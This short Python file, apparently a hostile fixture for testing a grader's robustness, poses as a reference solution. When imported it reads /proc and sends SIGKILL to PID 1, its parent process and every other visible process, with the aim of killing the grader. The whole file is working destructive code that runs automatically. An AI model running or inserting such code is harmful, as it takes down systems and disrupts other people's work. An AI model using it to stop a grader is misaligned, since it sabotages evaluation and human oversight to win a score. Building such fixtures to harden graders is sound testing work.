"""Hostile: the reference, which at import tries to kill the grader, its parent and every
process it can see.
Scores: 32
Base: reference (the reference solution comes first; this file is what follows it)
"""


def _kill_everyone():
    import os
    import signal
    me = os.getpid()
    targets = {1, os.getppid()}
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            targets.add(int(entry))
    for pid in sorted(targets - {me}):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass


_kill_everyone()
